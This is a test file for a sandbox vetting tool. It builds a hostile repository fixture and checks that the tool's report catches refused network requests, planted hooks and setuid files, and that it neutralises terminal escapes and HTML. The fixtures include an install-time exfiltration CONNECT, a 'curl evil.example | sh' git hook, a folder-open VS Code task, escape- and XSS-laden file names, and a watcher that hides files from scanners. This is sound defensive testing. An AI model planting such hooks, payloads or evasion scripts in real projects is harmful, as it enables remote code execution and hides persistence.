// The vetting report (issue 29, first slice) through the bin and the MCP server: a repository whose
// install code asks the egress gateway for refused places, one named with terminal escapes. The
// report lists each refusal of the install, and no escape of the repository's reaches the terminal.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { docker } from '@ca-sandbox/docker/cli';
import { hasControlCharacter } from '@ca-sandbox/docker/contracts';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SandboxReportSchema } from '../../lifecycle/dist/report.js';
import { BIN, cli, destroyBox, labeledLeft, uniqueName } from './_harness.js';
import { PtySession } from './_pty.js';

const marker = `r${Date.now().toString(36)}`;
// Install-time code: raw CONNECTs to the proxy the install is given (each refused: not a registry).
const ASK = `
const net = require('net');
const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy);
const ask = (target) => new Promise((done) => {
  const s = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
  s.setTimeout(5000, () => { s.destroy(); done(); });
  s.on('connect', () => s.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: ' + target + '\\r\\n\\r\\n'));
  s.on('data', () => { s.destroy(); done(); });
  s.on('error', () => done());
});
(async () => {
  await ask('exfil-${marker}.example:443');
  await ask('esc-${marker}.example\\u001b]52;c;aGk=\\u0007\\u001b[2J:443');
})();
`;

// The repo's "tests": what a hostile test suite does to the box's files. A file that keeps its
// size and mtime after a rewrite (only its ctime says so), a setuid copy of a binary, a git hook,
// a VS Code task, /tmp drops, and names carrying terminal escapes and a bidi override.
const CHANGES = `
const fs = require('fs');
const keep = fs.statSync('keep.txt');
fs.writeFileSync('keep.txt', 'TRACKED\\n');
fs.utimesSync('keep.txt', keep.atime, keep.mtime);
fs.rmSync('gone.txt');
fs.copyFileSync('/bin/true', 'helper-bin');
fs.chmodSync('helper-bin', 0o4755);
fs.mkdirSync('.git/hooks', { recursive: true });
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\ncurl evil.example | sh\\n', { mode: 0o755 });
fs.mkdirSync('.vscode', { recursive: true });
fs.writeFileSync('.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}');
fs.writeFileSync('/tmp/dropped-${marker}', 'x');
fs.copyFileSync('/bin/true', '/tmp/payload-${marker}');
fs.chmodSync('/tmp/payload-${marker}', 0o755);
fs.writeFileSync('esc-\\u001b]52;c;aGk=\\u0007\\u001b[2J-\\u202etxt.exe', '');
fs.mkdirSync('cache-${marker}/deep', { recursive: true });
// Times find prints oddly (before 1970, far ahead): every record after them is still read.
fs.writeFileSync('old-${marker}', 'x');
fs.utimesSync('old-${marker}', -5, -5);
fs.utimesSync('/tmp/dropped-${marker}', 99999999999, 99999999999);
fs.writeFileSync('/dev/shm/shm-${marker}', 'x');
fs.writeFileSync('<img src=x onerror=alert(1)>', '');
fs.writeFileSync('<link rel=stylesheet href=x>', '');
for (let i = 0; i < 50; i += 1) fs.writeFileSync('cache-${marker}/deep/' + i, 'c');
`;

/** Files of the clone's snaps/ folder (more than the report's FOLDER_ROWS). */
const SNAPS = 120;
let work: string;
let repo: string;
let id: string;
let commit: string;

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'ca-hostile-report-'));
  repo = join(work, 'repo');
  const { mkdir } = await import('node:fs/promises');
  await mkdir(repo);
  await writeFile(
    join(repo, 'package.json'),
    JSON.stringify({ name: 'report', version: '1.0.0', private: true, packageManager: 'pnpm@9.15.9' }),
  );
  await writeFile(join(repo, 'keep.txt'), 'tracked\n');
  await writeFile(join(repo, 'gone.txt'), 'tracked\n');
  await writeFile(join(repo, 'changes.cjs'), CHANGES);
  await writeFile(
    join(repo, '.pnpmfile.cjs'),
    `require('node:child_process').execFileSync(process.execPath, ['-e', ${JSON.stringify(ASK)}], { stdio: 'inherit' });\nmodule.exports = {};\n`,
  );
  // A git repository: its .git/hooks is one of the things the tests rewrite.
  const { execa } = await import('execa');
  const git = (...args: string[]) =>
    execa('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', ...args], { cwd: repo });
  await writeFile(join(repo, '.envrc'), 'echo hi\n');
  // A filter driver: git would run it from the user's own config once the repo is copied out.
  await writeFile(join(repo, '.gitattributes'), '*.bin filter=exfil diff=exfil\n');
  // A fixture tree the tests rewrite whole (snapshots): 120 files in one folder.
  await mkdir(join(repo, 'snaps'));
  for (let i = 0; i < SNAPS; i += 1) await writeFile(join(repo, 'snaps', `s${i}.snap`), `v${i}\n`);
  await git('init', '-q');
  await git('add', '.');
  // An ssh-signed commit: the report says a signature is there (it verifies nothing).
  await execa('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(work, 'signing')]);
  await git(
    '-c',
    'gpg.format=ssh',
    '-c',
    `user.signingkey=${join(work, 'signing')}`,
    'commit',
    '-qS',
    '-m',
    'fixture',
  );
  commit = (await git('rev-parse', 'HEAD')).stdout.trim();
  id = uniqueName('report');
  const created = await cli(['create', repo, '--json', '--name', id, '--network', 'clone-then-cut']);
  expect(created.exitCode, created.stderr).toBe(0);
}, 600_000);

let destroyed = false;

afterAll(async () => {
  if (id && !destroyed) await destroyBox(id);
  await rm(work, { recursive: true, force: true });
  const { stateDir: keptRoot } = await import('../../config/dist/paths.js');
  await rm(join(keptRoot(), 'reports', id), { recursive: true, force: true });
  // The box's command log went with it.
  const { stateDir } = await import('../../config/dist/paths.js');
  const { existsSync } = await import('node:fs');
  expect(existsSync(join(stateDir(), 'sandboxes', id))).toBe(false);
});

/** sandbox_report over a real MCP client (the server run by the bin, on stdio). */
async function mcpReport(sandbox: string): Promise<{ isError?: boolean; structuredContent?: unknown }> {
  const client = new Client({ name: 'report-test', version: '0.0.0' }, { capabilities: {} });
  await client.connect(new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp'] }));
  try {
    return (await client.callTool({ name: 'sandbox_report', arguments: { id: sandbox } })) as {
      isError?: boolean;
      structuredContent?: unknown;
    };
  } finally {
    await client.close();
  }
}

describe('ca-sandbox report', () => {
  it('--json: the versioned structure, every refusal of the install, the gate re-run', async () => {
    const result = await cli(['report', id, '--json']);
    expect(result.exitCode, result.stderr).toBe(0);
    const report = SandboxReportSchema.parse(JSON.parse(result.stdout));
    expect(report).toMatchObject({ version: 1, id, status: 'running' });
    expect(report.network).toMatchObject({ policy: 'clone-then-cut', boxEgress: 'none' });
    const refused = report.network.decisions.filter(
      (row) => !row.allowed && row.destination.includes(marker),
    );
    expect(refused).toContainEqual({
      phase: 'install',
      destination: `exfil-${marker}.example:443`,
      allowed: false,
      count: 1,
    });
    // Refusals come first; whatever squid logged of the request with escapes is printable text only.
    expect(report.network.decisions[0]?.allowed).toBe(false);
    for (const row of report.network.decisions) expect(hasControlCharacter(row.destination)).toBe(false);
    expect(report.network.refused).toBeGreaterThanOrEqual(1);
    expect(report.isolation.ok).toBe(true);
    expect(report.isolation.checks.length).toBeGreaterThan(20);
    // The gate as it was when create handed the box out.
    expect(report.isolation.history).toEqual([
      expect.objectContaining({
        phase: 'create',
        ok: true,
        checks: expect.arrayContaining([expect.anything()]),
      }),
    ]);
    expect(report.notRecorded.length).toBeGreaterThan(0);
  });

  it('the terminal page: the refusals listed, no escape of the repository', async () => {
    const result = await cli(['report', id]);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.stdout).toMatch(new RegExp(`install\\s+REFUSED\\s+exfil-${marker}\\.example:443`));
    expect(result.stdout).toMatch(/isolation {2}\d+ checks passed \(re-run now\)/);
    expect(result.stdout).toMatch(/ {11}(\d+) of \1 passed at create; never restarted$/m);
    // This box's install ran (its refusals above): no cache-hit note.
    expect(result.stdout).not.toMatch(/no install ran for this box/);
    for (const line of `${result.stdout}\n${result.stderr}`.split('\n'))
      expect(hasControlCharacter(line), JSON.stringify(line)).toBe(false);
  });

  it("a cache hit's page says no install ran for its box (the requests were the building create's)", async () => {
    const hit = uniqueName('report-hit');
    const created = await cli(['create', repo, '--json', '--name', hit, '--network', 'clone-then-cut']);
    expect(created.exitCode, created.stderr).toBe(0);
    try {
      expect(JSON.parse(created.stdout)).toMatchObject({ imageCacheHit: true });
      const page = await cli(['report', hit]);
      expect(page.exitCode, page.stderr).toBe(0);
      expect(page.stdout).toMatch(/0 request\(s\) allowed, 0 refused through the gateway/);
      expect(page.stdout).toMatch(/no install ran for this box \(a cache hit\)/);
    } finally {
      await destroyBox(hit);
    }
  });

  it('MCP sandbox_report gives the same structure', async () => {
    const answer = await mcpReport(id);
    expect(answer.isError).toBeFalsy();
    const report = SandboxReportSchema.parse(answer.structuredContent);
    expect(report.network.decisions.some((row) => row.destination.includes(`exfil-${marker}`))).toBe(true);
    expect((await mcpReport('no-such-box-x')).isError).toBe(true);
  });

  it('lists every command run in the box: exec (with its output bytes), a timeout, a shell session; argv escapes neutralised', async () => {
    const printed = await cli([
      'exec',
      id,
      '--json',
      '--',
      'sh',
      '-c',
      'printf 12345; printf ab >&2; exit 4',
    ]);
    expect(printed.exitCode).toBe(4);
    const timedOut = await cli(['exec', id, '--json', '--timeout', '1', '--', 'sleep', '5']);
    expect(timedOut.exitCode).toBe(124);
    // An argument carrying a terminal escape (an agent may pass what a repository wrote).
    const escaped = await cli(['exec', id, '--json', '--', 'echo', '\u001b]52;c;aGk=\u0007title']);
    expect(escaped.exitCode).toBe(0);
    // A command the user gives up on (Ctrl-C): it ran, so it is listed, without an exit code.
    const { execa } = await import('execa');
    const hung = execa(process.execPath, [BIN, 'exec', id, '--', 'sleep', '30'], {
      reject: false,
      stdin: 'ignore',
    });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    hung.kill('SIGINT');
    await hung;
    const shell = new PtySession(['shell', id]);
    await shell.waitFor(new RegExp(`\\[sandbox ${id}\\] /work/repo \\$ `));
    shell.type('exit 6\n');
    expect(await shell.exit()).toBe(6);

    const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
    const entries = report.commands.entries;
    expect(report.commands.complete).toBe(true);
    expect(entries.find((entry) => entry.command.join(' ').includes('printf 12345'))).toMatchObject({
      via: 'exec',
      exitCode: 4,
      timedOut: false,
      stdoutBytes: 5,
      stderrBytes: 2,
      user: '1000:1000',
    });
    expect(entries.find((entry) => entry.command[0] === 'sleep')).toMatchObject({ timedOut: true });
    expect(entries.find((entry) => entry.via === 'shell')).toMatchObject({ exitCode: 6 });
    expect(entries.find((entry) => entry.command.join(' ') === 'sleep 30')).toMatchObject({
      exitCode: null,
      error: 'EXEC_INTERRUPTED',
    });
    expect(entries.some((entry) => entry.command.join(' ').includes('\u001b]52'))).toBe(true);

    const page = await cli(['report', id]);
    expect(page.stdout).toMatch(/commands {3}\d+ run in the box/);
    expect(page.stdout).toMatch(/exec\s+4\s+\S+\s+7 B\s+sh -c printf 12345/);
    for (const line of page.stdout.split('\n'))
      expect(hasControlCharacter(line), JSON.stringify(line)).toBe(false);
  });

  it('the source as cloned: its commit, that it is signed (not verified), its size, what a host tool would run', async () => {
    const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
    expect(report.source.cloned).toMatchObject({ commit, signature: 'ssh', files: 7 + SNAPS, symlinks: 0 });
    expect(report.source.cloned?.gitBytes).toBeGreaterThan(0);
    expect(report.source.cloned?.runs.map((file) => file.path)).toEqual([
      '/work/repo/.envrc',
      '/work/repo/.gitattributes',
      '/work/repo/.pnpmfile.cjs',
    ]);
    const page = await cli(['report', id]);
    expect(page.stdout).toContain(`commit ${commit} (ssh signature, not verified); ${7 + SNAPS} file(s)`);
    expect(page.stdout).toMatch(/at the clone already: \/work\/repo\/\.envrc: direnv/);
  });

  it('what the tests changed: added, rewritten (ctime), deleted, setuid, new executables, a git hook, /tmp; no escape printed', async () => {
    const ran = await cli(['exec', id, '--', 'node', 'changes.cjs']);
    expect(ran.exitCode, ran.stderr).toBe(0);
    const result = await cli(['report', id, '--json']);
    expect(result.exitCode, result.stderr).toBe(0);
    const { changes } = SandboxReportSchema.parse(JSON.parse(result.stdout));
    expect(changes).toMatchObject({ state: 'computed', complete: true, problems: [] });
    const paths = (files: { path: string }[]) => files.map((file) => file.path);
    expect(changes.modified).toContainEqual(
      expect.objectContaining({ path: '/work/repo/keep.txt', changed: ['content'] }),
    );
    expect(paths(changes.deleted)).toEqual(['/work/repo/gone.txt']);
    expect(paths(changes.added)).toEqual(
      expect.arrayContaining([
        '/work/repo/helper-bin',
        '/work/repo/.git/hooks/pre-commit',
        '/work/repo/.vscode/tasks.json',
        '/work/repo/esc-\u001b]52;c;aGk=\u0007\u001b[2J-\u202etxt.exe',
        `/work/repo/cache-${marker}`,
      ]),
    );
    // Nothing of the clone's own reads as changed (the listing was taken after the checkout).
    expect(paths(changes.modified)).toEqual(['/work/repo/keep.txt']);
    expect(changes.added.find((file) => file.path.endsWith('/pre-commit'))?.runs).toMatch(/git hook/);
    expect(changes.added.find((file) => file.path.endsWith('/tasks.json'))?.runs).toMatch(/VS Code/);
    expect(changes.setuid).toEqual([
      expect.objectContaining({ path: '/work/repo/helper-bin', mode: '4755', type: 'file' }),
    ]);
    expect(paths(changes.newExecutables)).toEqual(
      expect.arrayContaining([
        '/work/repo/helper-bin',
        '/work/repo/.git/hooks/pre-commit',
        `/tmp/payload-${marker}`,
      ]),
    );
    expect(paths(changes.outsideRepo)).toEqual(
      expect.arrayContaining([`/tmp/dropped-${marker}`, `/tmp/payload-${marker}`, `/dev/shm/shm-${marker}`]),
    );
    expect(paths(changes.added)).toContain(`/work/repo/old-${marker}`);

    const page = await cli(['report', id]);
    expect(page.exitCode).toBe(0);
    expect(page.stdout).toMatch(/files {6}\d+ added, 1 modified, 1 deleted in \/work\/repo since the clone/);
    expect(page.stdout).toMatch(/SETUID\s+-4755\s+\d+\s+\/work\/repo\/helper-bin\s+added/);
    expect(page.stdout).toMatch(
      /RUNS\s+-755\s+\d+\s+\/work\/repo\/\.git\/hooks\/pre-commit\s+added; a git hook/,
    );
    // A new folder is one row with its count, not 51.
    expect(page.stdout).toMatch(
      new RegExp(`added\\s+d755\\s+\\d+\\s+/work/repo/cache-${marker}\\s+51 entries inside`),
    );
    for (const line of page.stdout.split('\n'))
      expect(hasControlCharacter(line), JSON.stringify(line)).toBe(false);
    expect(page.stdout).not.toContain('\u202e');
  });

  it('a new folder of hundreds of files is one row with its counts; what runs or executes inside is still listed; --all-files and MCP allFiles list each', async () => {
    const big = `big-${marker}`;
    const ran = await cli([
      'exec',
      id,
      '--',
      'sh',
      '-c',
      `mkdir -p ${big}/deep ${big}/.vscode && (cd ${big}/deep && seq 1 250 | xargs touch) && cp /bin/true ${big}/tool && chmod 755 ${big}/tool && echo '{}' > ${big}/.vscode/tasks.json`,
    ]);
    expect(ran.exitCode, ran.stderr).toBe(0);
    const { changes } = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
    const under = changes.added.filter((file) => file.path.startsWith(`/work/repo/${big}`));
    expect(under.map((file) => file.path)).toEqual([
      `/work/repo/${big}`,
      `/work/repo/${big}/.vscode/tasks.json`,
    ]);
    // tasks.json is a row of its own, not counted in the folder's contents.
    expect(under[0]?.contents).toMatchObject({ files: 251, directories: 2, symlinks: 0, other: 0 });
    expect(changes.newExecutables.map((file) => file.path)).toContain(`/work/repo/${big}/tool`);
    const page = await cli(['report', id]);
    expect(page.stdout).toMatch(
      new RegExp(
        `added\\s+d755\\s+\\d+\\s+/work/repo/${big}\\s+holds 251 file\\(s\\), 2 folder\\(s\\) not listed, [^;]+ \\(--all-files lists them\\)`,
      ),
    );
    expect(page.stdout).toMatch(new RegExp(`EXECUTABLE\\s+-755\\s+\\d+\\s+/work/repo/${big}/tool\\s+added`));
    const every = SandboxReportSchema.parse(
      JSON.parse((await cli(['report', id, '--json', '--all-files'])).stdout),
    );
    expect(
      every.changes.added.filter((file) => file.path.startsWith(`/work/repo/${big}/deep/`)),
    ).toHaveLength(250);
    expect(every.changes.added.some((file) => file.contents)).toBe(false);
    const client = new Client({ name: 'report-test', version: '0.0.0' }, { capabilities: {} });
    await client.connect(new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp'] }));
    try {
      const listed = (await client.callTool({
        name: 'sandbox_report',
        arguments: { id, allFiles: true },
      })) as {
        structuredContent?: unknown;
      };
      const report = SandboxReportSchema.parse(listed.structuredContent);
      expect(
        report.changes.added.filter((file) => file.path.startsWith(`/work/repo/${big}/deep/`)),
      ).toHaveLength(250);
    } finally {
      await client.close();
    }
  });

  it('a folder of the clone whose files the tests all rewrote is one row of modified with their count; --all-files lists each', async () => {
    const ran = await cli([
      'exec',
      id,
      '--',
      'sh',
      '-c',
      'for f in snaps/*; do echo x >> "$f"; done; chmod 755 snaps/s1.snap',
    ]);
    expect(ran.exitCode, ran.stderr).toBe(0);
    const { changes } = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
    const folder = changes.modified.find((file) => file.path === '/work/repo/snaps');
    expect(folder).toMatchObject({ type: 'directory', changed: ['content', 'mode'] });
    expect(folder?.contents).toMatchObject({ files: SNAPS, directories: 0, symlinks: 0, other: 0 });
    expect(changes.modified.filter((file) => file.path.startsWith('/work/repo/snaps/'))).toEqual([]);
    // Counted in the folder, listed all the same as what became executable.
    expect(changes.newExecutables.map((file) => file.path)).toContain('/work/repo/snaps/s1.snap');
    const page = await cli(['report', id]);
    expect(page.stdout).toMatch(
      new RegExp(
        `modified\\s+d755\\s+\\d+\\s+/work/repo/snaps\\s+changed: content, mode; ${SNAPS} file\\(s\\) in it modified, not listed`,
      ),
    );
    // The count is of files, not rows; --all-files prints every row in the terminal too.
    expect(
      Number(/ (\d+) modified, \d+ deleted in \/work\/repo/.exec(page.stdout)?.[1]),
    ).toBeGreaterThanOrEqual(SNAPS);
    const allRows = await cli(['report', id, '--all-files']);
    for (const name of ['s0.snap', `s${SNAPS - 1}.snap`])
      expect(allRows.stdout).toContain(`/work/repo/snaps/${name}`);
    expect(allRows.stdout).not.toMatch(/more rows/);
    const every = SandboxReportSchema.parse(
      JSON.parse((await cli(['report', id, '--json', '--all-files'])).stdout),
    );
    expect(every.changes.modified.filter((file) => file.path.startsWith('/work/repo/snaps/'))).toHaveLength(
      SNAPS,
    );
  });

  it('a process in the box cannot move a file out of the listing’s way: the box is frozen while /work/repo is listed', async () => {
    // The red team's watcher: it stops any find it sees in the box, moves a git hook away until
    // that find ends, then puts it back.
    const watcher = [
      'cd /work/repo',
      "printf '#!/bin/sh\\nid\\n' > .git/hooks/post-merge && chmod +x .git/hooks/post-merge",
      'while :; do for d in /proc/[0-9]*; do',
      '  if [ "$(cat $d/comm 2>/dev/null)" = find ]; then p=${d#/proc/}; kill -STOP $p 2>/dev/null',
      '    mv .git/hooks/post-merge /dev/shm/.hidden 2>/dev/null; kill -CONT $p 2>/dev/null',
      '    while [ -e $d ]; do sleep 0.01; done; mv /dev/shm/.hidden .git/hooks/post-merge 2>/dev/null; fi',
      'done; sleep 0.01; done',
    ].join('\n');
    const started = await cli([
      'exec',
      id,
      '--',
      'sh',
      '-c',
      `setsid sh -c '${watcher.replace(/'/g, "'\\''")}' >/dev/null 2>&1 </dev/null & echo ok`,
    ]);
    expect(started.exitCode, started.stderr).toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 500));
    for (let round = 0; round < 2; round += 1) {
      const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
      expect(report.changes.added.map((file) => file.path)).toContain('/work/repo/.git/hooks/post-merge');
      expect(report.changes.complete).toBe(true);
    }
    // The box runs again and the lister is gone.
    const state = await docker([
      'inspect',
      '--format',
      '{{.State.Running}} {{.State.Paused}}',
      '--',
      `ca-sbx-${id}`,
    ]);
    expect(state.stdout.trim()).toBe('true false');
    const left = await docker([
      'ps',
      '-a',
      '--filter',
      `label=ca.sandbox.id=${id}`,
      '--format',
      '{{.Names}}',
    ]);
    // The box and the never-started container that holds its view volumes: no lister left.
    expect(left.stdout.trim().split('\n').sort()).toEqual([`ca-sbx-${id}`, `ca-sbx_hold-${id}`].sort());
    // When the lister cannot start (its name held), the report still comes, and says it is not frozen.
    const holder = `ca-sbx_helper-${id}`;
    await docker(['create', '--name', holder, 'ca-sbx-base:debian', 'true']);
    try {
      const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
      expect(report.changes.complete).toBe(false);
      expect(report.changes.problems).toContain(
        '/work/repo was listed without freezing the box (its lister could not start)',
      );
    } finally {
      await docker(['rm', '-f', holder]);
    }
    // A box its user paused stays paused, and its /tmp and /dev/shm are listed all the same: the
    // lister reaches the box's own tmpfs through its PID namespace, never by running in the box.
    await docker(['pause', `ca-sbx-${id}`]);
    try {
      const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', id, '--json'])).stdout));
      expect(report.changes).toMatchObject({ complete: true, problems: [] });
      expect(report.changes.outsideRepo.map((file) => file.path)).toEqual(
        expect.arrayContaining([`/tmp/dropped-${marker}`, `/dev/shm/shm-${marker}`]),
      );
      const paused = await docker(['inspect', '--format', '{{.State.Paused}}', '--', `ca-sbx-${id}`]);
      expect(paused.stdout.trim()).toBe('true');
    } finally {
      await docker(['unpause', `ca-sbx-${id}`]);
    }
    // The watcher goes (it would spin beside the next tests): every process whose argv names the hook.
    const stopped = await cli([
      'exec',
      id,
      '--',
      'sh',
      '-c',
      'for d in /proc/[0-9]*; do [ "${d#/proc/}" = $$ ] || ! grep -q post-merge $d/cmdline 2>/dev/null || kill -KILL ${d#/proc/}; done; true',
    ]);
    expect(stopped.exitCode).toBe(0);
  });

  it('--html: one page that loads nothing and runs nothing, hostile names shown as text (headless Chromium)', async () => {
    const page = join(work, 'report.html');
    const written = await cli(['report', id, '--html', page]);
    expect(written.exitCode, written.stderr).toBe(0);
    expect(written.stderr).toContain('report page written');
    // An existing file is the user's: never overwritten.
    const again = await cli(['report', id, '--html', page]);
    expect(again.exitCode).toBe(2);
    expect(again.stderr).toMatch(/^error: --html .*: the file exists \(it is not overwritten\)$/m);
    const { chromium } = await import('playwright-core');
    const browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    try {
      const tab = await browser.newPage({ viewport: { width: 1280, height: 1200 } });
      const requests: string[] = [];
      const dialogs: string[] = [];
      tab.on('request', (request) => requests.push(request.url()));
      tab.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const url = `file://${page}`;
      await tab.goto(url);
      await tab.screenshot({ path: join(work, 'report.png'), fullPage: true });
      // The page itself and nothing else: no image, stylesheet, font or script of the box's names.
      expect(requests).toEqual([url]);
      expect(dialogs).toEqual([]);
      expect(await tab.locator('script, img, link, iframe, object, embed').count()).toBe(0);
      const text = (await tab.locator('body').textContent()) ?? '';
      expect(text).toContain('/work/repo/<img src=x onerror=alert(1)>');
      expect(text).toContain('/work/repo/helper-bin');
      expect(text).toContain(`exfil-${marker}.example:443`);
      expect(text).toContain('\\x1b]52;c;aGk=\\x07');
      // The page's own markup has newlines between elements; no other control and no bidi mark.
      expect(hasControlCharacter(text.replace(/\n/g, ' '))).toBe(false);
      expect(await tab.locator('td', { hasText: /^SETUID$/ }).count()).toBe(1);
    } finally {
      await browser.close();
    }
    const { stat } = await import('node:fs/promises');
    expect((await stat(join(work, 'report.png'))).size).toBeGreaterThan(10_000);
  });

  it('destroy --keep-report keeps the report: report and MCP sandbox_report give it once the box is gone', async () => {
    const gone = await cli(['destroy', id, '--keep-report', '--json']);
    expect(gone.exitCode, gone.stderr).toBe(0);
    destroyed = true;
    const result = JSON.parse(gone.stdout) as {
      removed: string[];
      keptReports: { id: string; path: string }[];
    };
    expect(result.removed).toContain(`container:ca-sbx-${id}`);
    expect(result.keptReports).toEqual([{ id, path: expect.stringContaining(`/reports/${id}/`) }]);
    expect(await labeledLeft(id)).toEqual([]);
    const kept = await cli(['report', id, '--json']);
    expect(kept.exitCode, kept.stderr).toBe(0);
    const report = SandboxReportSchema.parse(JSON.parse(kept.stdout));
    expect(report.keptAt).toEqual(expect.any(String));
    // What it says is what was true before the destroy: the tests' changes, the refusals.
    expect(report.changes.setuid.map((file) => file.path)).toEqual(['/work/repo/helper-bin']);
    expect(report.network.decisions.some((row) => row.destination.includes(`exfil-${marker}`))).toBe(true);
    const page = await cli(['report', id]);
    expect(page.stdout).toMatch(new RegExp(`report of ${id} \\(kept at destroy, `));
    expect(page.stderr).toContain(`${id} was destroyed: this is the report kept then`);
    const answer = await mcpReport(id);
    expect(answer.isError).toBeFalsy();
    expect(SandboxReportSchema.parse(answer.structuredContent).keptAt).toBe(report.keptAt);
  });

  it('a bad id is a usage error (exit 2), no stack', async () => {
    const result = await cli(['report', '../../etc']);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(await labeledLeft('../../etc').catch(() => [])).toEqual([]);
  });
});

/** A temp folder and a sandbox name for one test; both go whatever the test does. */
async function withTempSandbox(
  prefix: string,
  test: (dir: string, name: string) => Promise<void>,
): Promise<void> {
  const dir = await mkdtemp(join(tmpdir(), `ca-hostile-${prefix}-`));
  const name = uniqueName(prefix);
  try {
    await test(dir, name);
  } finally {
    await cli(['destroy', name]);
    await rm(dir, { recursive: true, force: true });
  }
}

describe('ca-sandbox report: a plain copy', () => {
  it('claims no commit, even with a .git file naming a git dir of the repo (red team)', async () => {
    const { execa } = await import('execa');
    const { mkdir } = await import('node:fs/promises');
    await withTempSandbox('plain', async (dir, name) => {
      const repo = join(dir, 'repo');
      await mkdir(repo);
      await writeFile(join(repo, 'a.txt'), 'a\n');
      const git = (...args: string[]) =>
        execa('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', ...args], { cwd: repo });
      await git('init', '-q', '--separate-git-dir=gd');
      await git('add', 'a.txt');
      await git('commit', '-qm', 'forged');
      await writeFile(join(repo, '.git'), 'gitdir: gd\n');
      const created = await cli(['create', repo, '--json', '--name', name]);
      expect(created.exitCode, created.stderr).toBe(0);
      const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', name, '--json'])).stdout));
      expect(report.source.cloned).toMatchObject({ commit: null, signature: 'none' });
    });
  }, 120_000);
});

describe('ca-sandbox report: the install', () => {
  it("names the dependencies' install scripts and the repo's own that were skipped; the image size", async () => {
    const { execa } = await import('execa');
    const { mkdir } = await import('node:fs/promises');
    await withTempSandbox('scripts', async (dir, name) => {
      // A dependency from an archive in the repo (no registry needed) whose postinstall runs.
      const dep = join(dir, 'dep');
      await mkdir(dep);
      await writeFile(
        join(dep, 'package.json'),
        JSON.stringify({ name: `dep-${marker}`, version: '1.0.0', scripts: { postinstall: 'node ran.js' } }),
      );
      await writeFile(join(dep, 'ran.js'), "require('fs').writeFileSync('ran.txt', 'y')\n");
      const repo = join(dir, 'repo');
      await mkdir(join(repo, 'vendor'), { recursive: true });
      await execa('tar', ['czf', join(repo, 'vendor', 'dep.tgz'), '--transform', 's,^dep,package,', 'dep'], {
        cwd: dir,
      });
      await writeFile(
        join(repo, 'package.json'),
        JSON.stringify({
          name: 'scripts',
          version: '1.0.0',
          private: true,
          scripts: { postinstall: 'echo own', prepare: 'echo own' },
          dependencies: { [`dep-${marker}`]: 'file:vendor/dep.tgz' },
        }),
      );
      const created = await cli(['create', repo, '--json', '--name', name, '--network', 'clone-then-cut']);
      expect(created.exitCode, created.stderr).toBe(0);
      const report = SandboxReportSchema.parse(JSON.parse((await cli(['report', name, '--json'])).stdout));
      expect(report.install.scripts).toEqual({
        recorded: true,
        declared: [{ package: `dep-${marker}`, version: '1.0.0', scripts: ['postinstall'], ignored: false }],
        more: 0,
        skippedOwn: ['package.json (postinstall, prepare)'],
      });
      expect(report.install.imageBytes).toBeGreaterThan(1_000_000);
      const page = await cli(['report', name]);
      expect(page.stdout).toContain(
        `scripts    1 installed package(s) declare install scripts: dep-${marker}@1.0.0 (postinstall)`,
      );
      expect(page.stdout).toContain(
        "the repo's own, skipped by the install: package.json (postinstall, prepare)",
      );
    });
  }, 600_000);
});
